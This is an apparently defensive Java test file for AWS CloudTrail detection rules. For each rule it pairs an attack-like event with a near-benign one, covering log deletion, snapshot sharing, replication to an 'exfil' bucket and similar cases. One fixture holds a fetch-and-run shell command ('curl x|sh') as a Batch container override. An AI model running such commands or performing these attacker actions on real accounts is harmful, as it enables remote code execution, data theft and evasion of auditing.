package io.trailhound.core.rules.elastic;

import static io.trailhound.core.rules.elastic.CloudTrailRecords.ASSUMED_ROLE;
import static io.trailhound.core.rules.elastic.CloudTrailRecords.AWS_SERVICE;
import static io.trailhound.core.rules.elastic.CloudTrailRecords.IAM_USER;
import static io.trailhound.core.rules.elastic.CloudTrailRecords.record;
import static io.trailhound.core.rules.elastic.EvidenceCase.CLI;
import static io.trailhound.core.rules.elastic.EvidenceCase.IP;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hit/miss events for peer rules on data and service APIs (S3, EC2, RDS, KMS, Lambda, logging,
 * SSM, backup, …), written by hand from each rule's description and the API's CloudTrail record.
 */
class PeerRuleEvidenceServicesTest {
    private static final String ANONYMOUS = "{\"type\":\"AWSAccount\",\"principalId\":\"\",\"accountId\":\"anonymous\"}";

    static Stream<EvidenceCase> cases() {
        return Stream.of(
                new EvidenceCase("AWS S3 Bucket ACL Modified to Allow Public Access by New Identity",
                        record("s3.amazonaws.com", "PutBucketAcl", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"x-amz-acl\":[\"public-read\"],\"acl\":\"\"}"),
                        record("s3.amazonaws.com", "PutBucketAcl", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"x-amz-acl\":[\"private\"],\"acl\":\"\"}"),
                        "a private ACL"),
                new EvidenceCase("AWS S3 Unauthenticated Bucket Access by Rare Source",
                        record("s3.amazonaws.com", "GetObject", ANONYMOUS, "203.0.113.66", "curl/8.4.0",
                                "\"requestParameters\":{\"bucketName\":\"site\",\"key\":\"db.sql\"}"),
                        record("s3.amazonaws.com", "GetObject", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"site\",\"key\":\"db.sql\"}"),
                        "an authenticated caller"),
                new EvidenceCase("AWS EC2 Unauthorized Admin Credential Fetch via Assumed Role",
                        record("ec2.amazonaws.com", "GetPasswordData", ASSUMED_ROLE, IP, CLI,
                                "\"requestParameters\":{\"instanceId\":\"i-0abc\"},\"errorCode\":"
                                        + "\"Client.UnauthorizedOperation\",\"errorMessage\":\"not authorized\""),
                        record("ec2.amazonaws.com", "GetPasswordData", ASSUMED_ROLE, IP, CLI,
                                "\"requestParameters\":{\"instanceId\":\"i-0abc\"}"),
                        "an authorised fetch (the rule looks for probing that was refused)"),
                new EvidenceCase("AWS Cognito Unauthenticated Identity Pool Credentials Issued",
                        record("cognito-identity.amazonaws.com", "GetCredentialsForIdentity",
                                "{\"type\":\"Unknown\",\"principalId\":\"Anonymous\"}", "203.0.113.66", "Boto3/1.34",
                                "\"requestParameters\":{\"identityId\":\"us-east-1:1234\"}"),
                        record("cognito-identity.amazonaws.com", "GetCredentialsForIdentity",
                                "{\"type\":\"Unknown\",\"principalId\":\"Anonymous\"}", "203.0.113.66", "Boto3/1.34",
                                "\"requestParameters\":{\"identityId\":\"us-east-1:1234\"},\"errorCode\":"
                                        + "\"NotAuthorizedException\""),
                        "credentials refused"),
                new EvidenceCase("AWS IAM Long-Term Access Key First Seen from Source IP",
                        record("s3.amazonaws.com", "ListBuckets", IAM_USER, "203.0.113.66", CLI, ""),
                        record("s3.amazonaws.com", "ListBuckets", ASSUMED_ROLE, "203.0.113.66", CLI, ""),
                        "a temporary ASIA key"),
                new EvidenceCase("AWS IAM User Addition to Group",
                        record("iam.amazonaws.com", "AddUserToGroup", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"groupName\":\"Admins\",\"userName\":\"mallory\"}"),
                        record("iam.amazonaws.com", "RemoveUserFromGroup", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"groupName\":\"Admins\",\"userName\":\"mallory\"}"),
                        "a removal"),
                new EvidenceCase("First Time Seen AWS Secret Value Accessed in Secrets Manager",
                        record("secretsmanager.amazonaws.com", "GetSecretValue", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"secretId\":\"prod/db\"}"),
                        record("secretsmanager.amazonaws.com", "DescribeSecret", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"secretId\":\"prod/db\"}"),
                        "metadata only"),
                new EvidenceCase("AWS CloudWatch Alarm Deletion",
                        record("monitoring.amazonaws.com", "DeleteAlarms", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"alarmNames\":[\"root-login\"]}"),
                        record("monitoring.amazonaws.com", "DeleteAlarms", AWS_SERVICE, "AWS Internal",
                                "AWS Internal", "\"requestParameters\":{\"alarmNames\":[\"TargetTracking-x\"]}"),
                        "AWS itself removing an auto-scaling alarm (no source.ip)"),
                new EvidenceCase("AWS Configuration Recorder Stopped",
                        record("config.amazonaws.com", "StopConfigurationRecorder", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"configurationRecorderName\":\"default\"}"),
                        record("config.amazonaws.com", "StartConfigurationRecorder", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"configurationRecorderName\":\"default\"}"),
                        "recorder started"),
                new EvidenceCase("AWS VPC Flow Logs Deletion",
                        record("ec2.amazonaws.com", "DeleteFlowLogs", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"DeleteFlowLogsRequest\":{\"FlowLogId\":{\"tag\":1,"
                                        + "\"content\":\"fl-1\"}}}"),
                        record("ec2.amazonaws.com", "CreateFlowLogs", IAM_USER, IP, CLI, ""),
                        "flow logs created"),
                new EvidenceCase("AWS EC2 NACL Entry Created or Replaced Allowing All Traffic by New Identity",
                        record("ec2.amazonaws.com", "CreateNetworkAclEntry", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"networkAclId\":\"acl-1\",\"ruleNumber\":1,\"egress\":false,"
                                        + "\"ruleAction\":\"allow\",\"aclProtocol\":\"-1\",\"cidrBlock\":\"0.0.0.0/0\"}"),
                        record("ec2.amazonaws.com", "CreateNetworkAclEntry", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"networkAclId\":\"acl-1\",\"ruleNumber\":1,\"egress\":false,"
                                        + "\"ruleAction\":\"allow\",\"aclProtocol\":\"6\",\"cidrBlock\":\"0.0.0.0/0\","
                                        + "\"portRange\":{\"from\":443,\"to\":443}}"),
                        "only TCP 443"),
                new EvidenceCase("AWS EC2 Network Access Control List Deletion",
                        record("ec2.amazonaws.com", "DeleteNetworkAclEntry", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"networkAclId\":\"acl-1\",\"ruleNumber\":90,\"egress\":false}"),
                        record("ec2.amazonaws.com", "DescribeNetworkAcls", IAM_USER, IP, CLI, ""),
                        "a read"),
                new EvidenceCase("AWS EC2 Serial Console Access Enabled",
                        record("ec2.amazonaws.com", "EnableSerialConsoleAccess", IAM_USER, IP, CLI, ""),
                        record("ec2.amazonaws.com", "DisableSerialConsoleAccess", IAM_USER, IP, CLI, ""),
                        "access disabled"),
                new EvidenceCase("AWS GuardDuty Member Account Manipulation",
                        record("guardduty.amazonaws.com", "DisassociateFromAdministratorAccount", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"detectorId\":\"d1\"}"),
                        record("guardduty.amazonaws.com", "ListMembers", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"detectorId\":\"d1\"}"),
                        "a read"),
                new EvidenceCase("AWS IAM Permission Boundary or Guardrail Policy Deleted by Unusual Identity",
                        record("iam.amazonaws.com", "DeletePolicy", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"policyArn\":\"arn:aws:iam::111122223333:policy/DevPermissionsBoundary\"}"),
                        record("iam.amazonaws.com", "DeletePolicy", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"policyArn\":\"arn:aws:iam::111122223333:policy/old-s3-reader\"}"),
                        "an ordinary policy"),
                new EvidenceCase("AWS S3 Bucket Configuration Deletion",
                        record("s3.amazonaws.com", "DeleteBucketEncryption", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"encryption\":\"\"}"),
                        record("s3.amazonaws.com", "GetBucketEncryption", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"encryption\":\"\"}"),
                        "a read"),
                new EvidenceCase("AWS S3 Bucket Expiration Lifecycle Configuration Added",
                        record("s3.amazonaws.com", "PutBucketLifecycle", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"LifecycleConfiguration\":{\"Rule\":"
                                        + "{\"ID\":\"wipe\",\"Status\":\"Enabled\",\"Filter\":{\"Prefix\":\"\"},"
                                        + "\"Expiration\":{\"Days\":1}}},\"lifecycle\":\"\"}"),
                        record("s3.amazonaws.com", "PutBucketLifecycle", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"LifecycleConfiguration\":{\"Rule\":"
                                        + "{\"ID\":\"archive\",\"Status\":\"Enabled\",\"Transition\":{\"Days\":30,"
                                        + "\"StorageClass\":\"GLACIER\"}}},\"lifecycle\":\"\"}"),
                        "a transition to Glacier, nothing expires"),
                new EvidenceCase("AWS SQS Queue Purge",
                        record("sqs.amazonaws.com", "PurgeQueue", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"queueUrl\":\"https://sqs.us-east-1.amazonaws.com/111122223333/orders\"}"),
                        record("sqs.amazonaws.com", "GetQueueAttributes", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"queueUrl\":\"https://sqs.us-east-1.amazonaws.com/111122223333/orders\"}"),
                        "a read"),
                new EvidenceCase("AWS WAF Access Control List Deletion",
                        record("wafv2.amazonaws.com", "DeleteWebACL", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"edge\",\"scope\":\"CLOUDFRONT\"}"),
                        record("wafv2.amazonaws.com", "DeleteWebACL", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"edge\",\"scope\":\"CLOUDFRONT\"},\"errorCode\":"
                                        + "\"WAFOptimisticLockException\""),
                        "the deletion failed"),
                new EvidenceCase("AWS EC2 User Data Retrieval for EC2 Instance",
                        record("ec2.amazonaws.com", "DescribeInstanceAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"instanceId\":\"i-0abc\",\"attribute\":\"userData\"}"),
                        record("ec2.amazonaws.com", "DescribeInstanceAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"instanceId\":\"i-0abc\",\"attribute\":\"instanceType\"}"),
                        "another attribute"),
                new EvidenceCase("AWS IAM Principal Enumeration via UpdateAssumeRolePolicy",
                        record("iam.amazonaws.com", "UpdateAssumeRolePolicy", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"roleName\":\"probe\"},\"errorCode\":"
                                        + "\"MalformedPolicyDocumentException\",\"errorMessage\":\"Invalid principal in policy\""),
                        record("iam.amazonaws.com", "UpdateAssumeRolePolicy", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"roleName\":\"probe\"}"),
                        "a valid update"),
                new EvidenceCase("AWS Account Discovery By Rare User",
                        record("organizations.amazonaws.com", "ListAccounts", IAM_USER, IP, CLI, ""),
                        record("organizations.amazonaws.com", "ListAccounts", IAM_USER, IP, CLI,
                                "\"sessionCredentialFromConsole\":\"true\""),
                        "a console session, excluded by the rule"),
                new EvidenceCase("AWS SSM Inventory Reconnaissance by Rare User",
                        record("ssm.amazonaws.com", "CreateAssociation", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"AWS-GatherSoftwareInventory\",\"targets\":"
                                        + "[{\"key\":\"InstanceIds\",\"values\":[\"*\"]}]}"),
                        record("ssm.amazonaws.com", "CreateAssociation", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"AWS-UpdateSSMAgent\",\"targets\":"
                                        + "[{\"key\":\"InstanceIds\",\"values\":[\"*\"]}]}"),
                        "an agent update association"),
                new EvidenceCase("AWS Batch Job Submitted with Container Override by Unusual Identity",
                        record("batch.amazonaws.com", "SubmitJob", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"jobName\":\"j\",\"jobQueue\":\"q\",\"jobDefinition\":\"d\","
                                        + "\"containerOverrides\":{\"command\":[\"sh\",\"-c\",\"curl x|sh\"]}}"),
                        record("batch.amazonaws.com", "SubmitJob", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"jobName\":\"j\",\"jobQueue\":\"q\",\"jobDefinition\":\"d\"}"),
                        "the job definition's own command"),
                new EvidenceCase("AWS Lambda Layer Added to Existing Function",
                        record("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"functionName\":\"billing\",\"layers\":"
                                        + "[\"arn:aws:lambda:us-east-1:999988887777:layer:x:1\"]}"),
                        record("lambda.amazonaws.com", "GetFunctionConfiguration20150331v2", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"functionName\":\"billing\"}"),
                        "a read"),
                new EvidenceCase("AWS Lambda Function Invoked by an Unusual Principal",
                        record("lambda.amazonaws.com", "Invoke", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"functionName\":\"billing\"}"),
                        record("lambda.amazonaws.com", "Invoke", "{\"type\":\"AWSService\",\"invokedBy\":"
                                        + "\"apigateway.amazonaws.com\"}", "apigateway.amazonaws.com",
                                "apigateway.amazonaws.com", "\"requestParameters\":{\"functionName\":\"billing\"}"),
                        "invoked by API Gateway on the caller's behalf"),
                new EvidenceCase("AWS Lambda Layer Shared Externally",
                        record("lambda.amazonaws.com", "AddLayerVersionPermission20181031", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"layerName\":\"x\",\"versionNumber\":1,\"principal\":\"*\"}"),
                        record("lambda.amazonaws.com", "GetLayerVersionPolicy20181031", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"layerName\":\"x\",\"versionNumber\":1}"),
                        "a read"),
                new EvidenceCase("AWS SSM Command Document Created by Rare User",
                        record("ssm.amazonaws.com", "CreateDocument", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"run\",\"documentType\":\"Command\"},\"responseElements\":"
                                        + "{\"documentDescription\":{\"name\":\"run\",\"documentType\":\"Command\"}}"),
                        record("ssm.amazonaws.com", "CreateDocument", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"auto\",\"documentType\":\"Automation\"},\"responseElements\":"
                                        + "{\"documentDescription\":{\"name\":\"auto\",\"documentType\":\"Automation\"}}"),
                        "an automation document"),
                new EvidenceCase("AWS SSM `SendCommand` Execution by Rare User",
                        record("ssm.amazonaws.com", "SendCommand", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"documentName\":\"AWS-RunShellScript\",\"instanceIds\":[\"i-0abc\"]}"),
                        record("ssm.amazonaws.com", "SendCommand", ASSUMED_ROLE, "ssm.amazonaws.com", "ssm.amazonaws.com",
                                "\"requestParameters\":{\"documentName\":\"AWS-RunPatchBaseline\",\"instanceIds\":[\"i-0abc\"]}"),
                        "SSM's own patching"),
                new EvidenceCase("AWS EC2 AMI Shared with Another Account",
                        record("ec2.amazonaws.com", "ModifyImageAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"imageId\":\"ami-1\",\"launchPermission\":{\"add\":{\"items\":"
                                        + "[{\"userId\":\"999988887777\"}]}},\"attributeType\":\"launchPermission\"}"),
                        record("ec2.amazonaws.com", "ModifyImageAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"imageId\":\"ami-1\",\"launchPermission\":{\"remove\":{\"items\":"
                                        + "[{\"userId\":\"999988887777\"}]}},\"attributeType\":\"launchPermission\"}"),
                        "sharing removed"),
                new EvidenceCase("AWS EC2 EBS Snapshot Shared or Made Public",
                        record("ec2.amazonaws.com", "ModifySnapshotAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"snapshotId\":\"snap-1\",\"attributeType\":\"CREATE_VOLUME_PERMISSION\","
                                        + "\"createVolumePermission\":{\"add\":{\"items\":[{\"userId\":\"999988887777\"}]}}}"),
                        record("ec2.amazonaws.com", "ModifySnapshotAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"snapshotId\":\"snap-1\",\"attributeType\":\"CREATE_VOLUME_PERMISSION\","
                                        + "\"createVolumePermission\":{\"remove\":{\"items\":[{\"userId\":\"999988887777\"}]}}}"),
                        "sharing removed"),
                new EvidenceCase("AWS EC2 EBS Snapshot Access Removed",
                        record("ec2.amazonaws.com", "ModifySnapshotAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"snapshotId\":\"snap-1\",\"attributeType\":\"CREATE_VOLUME_PERMISSION\","
                                        + "\"createVolumePermission\":{\"remove\":{\"items\":[{\"userId\":\"111122223333\"}]}}}"),
                        record("ec2.amazonaws.com", "ModifySnapshotAttribute", AWS_SERVICE, "backup.amazonaws.com",
                                "backup.amazonaws.com", "\"requestParameters\":{\"snapshotId\":\"snap-1\",\"attributeType\":"
                                        + "\"CREATE_VOLUME_PERMISSION\",\"createVolumePermission\":{\"remove\":{\"items\":"
                                        + "[{\"userId\":\"111122223333\"}]}}}"),
                        "AWS Backup managing its own snapshots"),
                new EvidenceCase("AWS RDS DB Snapshot Shared with Another Account",
                        record("rds.amazonaws.com", "ModifyDBSnapshotAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"dBSnapshotIdentifier\":\"nightly\",\"attributeName\":\"restore\","
                                        + "\"valuesToAdd\":[\"999988887777\"]}"),
                        record("rds.amazonaws.com", "ModifyDBSnapshotAttribute", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"dBSnapshotIdentifier\":\"nightly\",\"attributeName\":\"restore\","
                                        + "\"valuesToRemove\":[\"999988887777\"]}"),
                        "sharing removed"),
                new EvidenceCase("AWS S3 Bucket Replicated to Another Account",
                        record("s3.amazonaws.com", "PutBucketReplication", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"ReplicationConfiguration\":{\"Role\":"
                                        + "\"arn:aws:iam::111122223333:role/repl\",\"Rule\":{\"Destination\":{\"Bucket\":"
                                        + "\"arn:aws:s3:::exfil\",\"Account\":\"999988887777\"}}}}"),
                        record("s3.amazonaws.com", "PutBucketReplication", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"ReplicationConfiguration\":{\"Role\":"
                                        + "\"arn:aws:iam::111122223333:role/repl\",\"Rule\":{\"Destination\":{\"Bucket\":"
                                        + "\"arn:aws:s3:::dr-copy\"}}}}"),
                        "replication within the account"),
                new EvidenceCase("AWS S3 Object Versioning Suspended",
                        record("s3.amazonaws.com", "PutBucketVersioning", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"VersioningConfiguration\":{\"Status\":"
                                        + "\"Suspended\"},\"versioning\":\"\"}"),
                        record("s3.amazonaws.com", "PutBucketVersioning", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"VersioningConfiguration\":{\"Status\":"
                                        + "\"Enabled\"},\"versioning\":\"\"}"),
                        "versioning enabled"),
                new EvidenceCase("Potential AWS S3 Bucket Ransomware Note Uploaded",
                        record("s3.amazonaws.com", "PutObject", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"key\":\"HOW_TO_DECRYPT.txt\"},"
                                        + "\"resources\":[{\"type\":\"AWS::S3::Object\",\"ARN\":"
                                        + "\"arn:aws:s3:::data/HOW_TO_DECRYPT.txt\"},{\"accountId\":\"111122223333\","
                                        + "\"type\":\"AWS::S3::Bucket\",\"ARN\":\"arn:aws:s3:::data\"}]"),
                        record("s3.amazonaws.com", "PutObject", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"bucketName\":\"data\",\"key\":\"AWSLogs/111122223333/"
                                        + "CloudTrail/help.json.gz\"},\"resources\":[{\"type\":\"AWS::S3::Object\","
                                        + "\"ARN\":\"arn:aws:s3:::data/AWSLogs/111122223333/CloudTrail/help.json.gz\"}]"),
                        "CloudTrail's own log delivery path"),
                new EvidenceCase("AWS KMS Customer Managed Key Disabled or Scheduled for Deletion",
                        record("kms.amazonaws.com", "ScheduleKeyDeletion", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"keyId\":\"k1\",\"pendingWindowInDays\":7}"),
                        record("kms.amazonaws.com", "CancelKeyDeletion", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"keyId\":\"k1\"}"),
                        "deletion cancelled"),
                new EvidenceCase("AWS Lambda Function Deletion",
                        record("lambda.amazonaws.com", "DeleteFunction20150331", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"functionName\":\"billing\"}"),
                        record("lambda.amazonaws.com", "GetFunction20150331v2", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"functionName\":\"billing\"}"),
                        "a read"),
                new EvidenceCase("AWS RDS DB Instance or Cluster Deleted",
                        record("rds.amazonaws.com", "DeleteDBInstance", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"dBInstanceIdentifier\":\"prod\",\"skipFinalSnapshot\":true}"),
                        record("rds.amazonaws.com", "DeleteDBInstance", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"dBInstanceIdentifier\":\"prod\"},\"errorCode\":"
                                        + "\"InvalidDBInstanceState\""),
                        "deletion refused"),
                new EvidenceCase("AWS CloudWatch Log Group Deletion",
                        record("logs.amazonaws.com", "DeleteLogGroup", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"logGroupName\":\"/aws/lambda/billing\"}"),
                        record("logs.amazonaws.com", "DeleteLogGroup", AWS_SERVICE, "AWS Internal", "AWS Internal",
                                "\"requestParameters\":{\"logGroupName\":\"/aws/lambda/tmp\"}"),
                        "AWS-internal housekeeping"),
                new EvidenceCase("AWS Backup Vault Deleted or Vault Lock Removed",
                        record("backup.amazonaws.com", "DeleteBackupVaultLockConfiguration", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"backupVaultName\":\"prod\"}"),
                        record("backup.amazonaws.com", "DeleteBackupVault", AWS_SERVICE, "backup.amazonaws.com",
                                "backup.amazonaws.com", "\"requestParameters\":{\"backupVaultName\":\"tmp\"}"),
                        "an AWS service actor"),
                new EvidenceCase("AWS CloudTrail Log Updated",
                        record("cloudtrail.amazonaws.com", "UpdateTrail", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"org\",\"s3BucketName\":\"elsewhere\"}"),
                        record("cloudtrail.amazonaws.com", "GetTrailStatus", IAM_USER, IP, CLI,
                                "\"requestParameters\":{\"name\":\"org\"}"),
                        "a read"),
                new EvidenceCase("AWS EC2 Encryption Disabled",
                        record("ec2.amazonaws.com", "DisableEbsEncryptionByDefault", IAM_USER, IP, CLI, ""),
                        record("ec2.amazonaws.com", "EnableEbsEncryptionByDefault", IAM_USER, IP, CLI, ""),
                        "encryption enabled"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void ruleMatchesItsAttackAndNotTheNearestBenignEvent(EvidenceCase c) {
        c.check();
    }
}
